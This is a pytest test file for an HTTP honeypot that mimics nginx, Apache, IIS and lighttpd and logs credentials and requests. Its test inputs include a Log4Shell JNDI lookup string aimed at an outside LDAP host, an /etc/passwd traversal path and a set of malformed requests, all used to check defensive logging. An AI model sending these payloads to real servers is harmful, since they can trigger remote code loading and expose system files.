# ruff: noqa: E501 (answers and lists of names are compared as they are)
"""The web server decoy, byte by byte as the server it imitates."""

from __future__ import annotations

import hashlib
import subprocess
from collections.abc import Callable
from typing import Any

import pytest
from inside import Inside

NGINX, APACHE, IIS, LIGHTTPD = (
    "nginx/1.22.1",
    "Apache/2.4.61 (Debian)",
    "Microsoft-IIS/10.0",
    "lighttpd/1.4.59",
)
MALFORMED = (
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    b"GET\r\n\r\n",
    b"get / HTTP/1.1\r\nHost\r\n\r\n",
    b"GET / HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    b"GET x HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET / HTTP/9.9\r\nHost: a\r\n\r\n",
    b"GET /" + b"a" * 70000 + b" HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"a" * 70000 + b"\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: x\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
    b"\x00" * 300,
    b"\xff\xfe / HTTP/1.1\r\n\r\n",
)
FORBIDDEN = (
    b"decnet",
    b"decky",
    b"deckies",
    b"decoy",
    b"honeypot",
    b"canary",
    b"python",
    b"asyncio",
    b"traceback",
)


def get(path: str = "/", more: str = "") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: www\r\nConnection: close\r\n{more}\r\n".encode()


def names(answer: bytes) -> list[str]:
    return [line.split(b":")[0].decode() for line in answer.split(b"\r\n\r\n")[0].split(b"\r\n")[1:]]


def test_nginx_answers_as_nginx(decoy: Callable[..., Any]) -> None:
    server = decoy("http", banner=NGINX, settings={"site": "default"})

    page, missing = server.ask(get()), server.ask(get("/nope"))

    assert names(page) == [
        "Server", "Date", "Content-Type", "Content-Length", "Last-Modified", "Connection", "ETag", "Accept-Ranges"
    ]  # fmt: skip
    assert missing.startswith(b"HTTP/1.1 404 Not Found\r\nServer: nginx/1.22.1\r\n")
    assert missing.endswith(b"<hr><center>nginx/1.22.1</center>\r\n</body>\r\n</html>\r\n")
    assert b"405 Not Allowed" in server.ask(b"PUT / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
    assert b"400 Bad Request" in server.ask(MALFORMED[0])


def test_apache_answers_as_apache(decoy: Callable[..., Any]) -> None:
    server = decoy("http", banner=APACHE, settings={"site": "default"})

    page, missing = server.ask(get()), server.ask(get("/nope"))

    assert names(page) == [
        "Date", "Server", "Last-Modified", "ETag", "Accept-Ranges", "Content-Length", "Vary", "Connection", "Content-Type"
    ]  # fmt: skip
    assert b"<p>The requested URL was not found on this server.</p>" in missing
    assert f"<address>{APACHE} Server at www Port {server.port}</address>".encode() in missing
    assert b"501 Not Implemented" in server.ask(b"WAT / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
    assert b"403 Forbidden" in server.ask(get("/.htaccess"))


def test_iis_leaves_bad_requests_to_the_system(decoy: Callable[..., Any]) -> None:
    server = decoy("http", banner=IIS, os="windows_server", settings={"site": "default"})

    assert b"Server: Microsoft-HTTPAPI/2.0" in server.ask(MALFORMED[3])
    assert b"Invalid Hostname" in server.ask(MALFORMED[3])
    assert b"X-Powered-By: ASP.NET" in server.ask(get("/nope"))


def test_a_posted_login_is_recorded_and_fails(decoy: Callable[..., Any]) -> None:
    server = decoy("http", banner=NGINX, settings={"site": "login", "title": "Payroll"})

    done = subprocess.run(
        ["curl", "-s", f"http://127.0.0.1:{server.port}/login", "-d", "username=admin&password=hunter2"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip

    assert (
        "<title>Payroll - Sign in</title>" in done.stdout and "Invalid username or password." in done.stdout
    )
    assert server.events("login")[-1]["fields"] == {
        "username": "admin", "password": "hunter2", "success": False, "method": "form"
    }  # fmt: skip


def test_basic_credentials_are_recorded(decoy: Callable[..., Any]) -> None:
    server = decoy("http", banner=LIGHTTPD, os="embedded")

    server.ask(get("/", "Authorization: Basic cm9vdDp0b29y\r\n"))

    fields = server.events("login")[-1]["fields"]
    assert (fields["username"], fields["password"], fields["method"]) == ("root", "toor", "basic")


def test_a_client_that_has_the_page_gets_304(decoy: Callable[..., Any]) -> None:
    server = decoy("http", banner=NGINX, settings={"site": "default"})
    tag = next(line for line in server.ask(get()).split(b"\r\n") if line.startswith(b"ETag: ")).decode()[6:]
    server.stop()
    again = decoy("http", banner=NGINX, settings={"site": "default"})

    assert again.ask(get("/", f"If-None-Match: {tag}\r\n")).startswith(b"HTTP/1.1 304 Not Modified\r\n")


def test_a_visit_is_recorded_in_events(decoy: Callable[..., Any]) -> None:
    server = decoy("http", banner=NGINX, settings={"site": "default"})

    server.ask(get("/nope", "User-Agent: probe\r\n"))

    events = server.events("disconnect") and server.events()
    assert [event["kind"] for event in events] == ["contact", "request", "disconnect"]
    assert [event["n"] for event in events] == [1, 2, 3] and len({event["session"] for event in events}) == 1
    assert events[1]["fields"] == {
        "method": "GET", "path": "/nope", "status": 404, "user_agent": "probe", "host": "www",
        "headers": "host: www\nconnection: close\nuser-agent: probe",
    }  # fmt: skip


def test_the_size_and_the_hash_of_a_body_are_those_of_all_of_it(decoy: Callable[..., Any]) -> None:
    server = decoy("http", banner=NGINX, settings={"site": "default"})
    body = b"0123456789abcdef" * 4096
    head = f"POST /a HTTP/1.1\r\nHost: www\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    chunks = b"".join(b"%x\r\n%b\r\n" % (1000, body[at : at + 1000]) for at in range(0, 65_000, 1000))
    chunked = b"POST /a HTTP/1.1\r\nHost: www\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"

    server.ask(head.encode() + body)
    server.ask(chunked + chunks + b"0\r\n\r\n")

    found = [event["fields"] for event in server.events("request", 2)]
    assert [(each["body_size"], each["body_sha256"]) for each in found] == [
        (len(body), hashlib.sha256(body).hexdigest()), (65_000, hashlib.sha256(body[:65_000]).hexdigest())
    ]  # fmt: skip


@pytest.mark.parametrize(
    "end", [b"X Y: bad name\r\n\r\n", b"X-Long: " + b"x" * 9000 + b"\r\n\r\n", b"X-Last: cut off"]
)
def test_the_headers_of_a_refused_request_are_in_its_event(decoy: Callable[..., Any], end: bytes) -> None:
    server = decoy("http", banner=NGINX, settings={"site": "default"})

    server.ask(b"GET / HTTP/1.1\r\nHost: www\r\nX-Api-Version: ${jndi:ldap://198.51.100.9/a}\r\n" + end)

    headers = server.events("request")[0]["fields"]["headers"].split("\n")
    assert headers[:2] == ["host: www", "x-api-version: ${jndi:ldap://198.51.100.9/a}"]


def test_headers_and_body_of_an_attack_are_in_its_event(decoy: Callable[..., Any]) -> None:
    server = decoy("http", banner=NGINX, settings={"site": "default"})
    attack = "${jndi:ldap://198.51.100.9/a}"
    filler = "".join(f"X-Filler-{number}: {'f' * 90}\r\n" for number in range(15))
    body = b"x" * 5000
    head = f"PUT /a HTTP/1.1\r\nHost: www\r\n{filler}X-Api-Version: {attack}\r\nContent-Length: {len(body)}\r\n\r\n"
    server.ask(head.encode() + body)
    fields = server.events("request")[0]["fields"]
    assert f"\nx-api-version: {attack}\n" in fields["headers"]
    assert (fields["body_size"], fields["body_sha256"]) == (5000, hashlib.sha256(body).hexdigest())
    assert fields["body"] == "x" * 1000


@pytest.mark.parametrize("banner", [NGINX, APACHE, IIS, LIGHTTPD, "Boa/0.94.14rc21"])
def test_nothing_that_is_sent_identifies_the_decoy(decoy: Callable[..., Any], banner: str) -> None:
    server = decoy("http", banner=banner, release="busybox-camera" if "Boa" in banner else "debian-12")
    paths = (
        "/",
        "/nope",
        "/login",
        "/style.css",
        "/robots.txt",
        "/favicon.ico",
        "/../../etc/passwd",
        "/%00%ff",
    )
    methods = ("POST", "PUT", "OPTIONS", "TRACE", "DELETE", "PROPFIND", "WAT")

    said = b"".join(server.ask(get(path)) for path in paths)
    said += b"".join(
        server.ask(f"{name} / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n".encode()) for name in methods
    )
    answers = [server.ask(request) for request in MALFORMED]

    assert [word for word in FORBIDDEN if word in (said + b"".join(answers)).lower()] == []
    assert all(answer == b"" or answer.startswith(b"HTTP/1.1 ") for answer in answers)
    assert server.ask(get()).startswith(b"HTTP/1.1 ") and server.stop() == 0


def test_a_port_scan_and_a_half_request_leave_nothing_open(decoy: Callable[..., Any]) -> None:
    server = decoy("http", banner=NGINX)

    server.ask(b"")
    server.ask(b"GET / HT")

    assert len(server.events("disconnect", 2)) == 2


@pytest.mark.parametrize(
    ("banner", "release", "size", "md5"),
    [
        (APACHE, "debian-12", 10701, "e2620d4a5a0f8d80dd4b16de59af981f"),
        (NGINX, "debian-12-nginx", 615, "7df3d7cf3358af3f470ac7229387ef94"),
        ("Apache/2.4.52 (Ubuntu)", "ubuntu-22.04", 10671, None),
        ("Apache/2.4.41 (Ubuntu)", "ubuntu-20.04", 10918, None),
        ("nginx/1.18.0 (Ubuntu)", "ubuntu-22.04-nginx", 612, None),
    ],
)
def test_the_default_page_is_the_packages(
    inside: Callable[..., Inside], banner: str, release: str, size: int, md5: str | None
) -> None:
    """Sizes and sums of the files that the packages install."""
    server = inside("http", banner=banner, release=release, settings={"site": "default"})
    page = server.ask(get("/")).partition(b"\r\n\r\n")[2]

    assert len(page) == size
    assert md5 in (None, hashlib.md5(page, usedforsecurity=False).hexdigest())
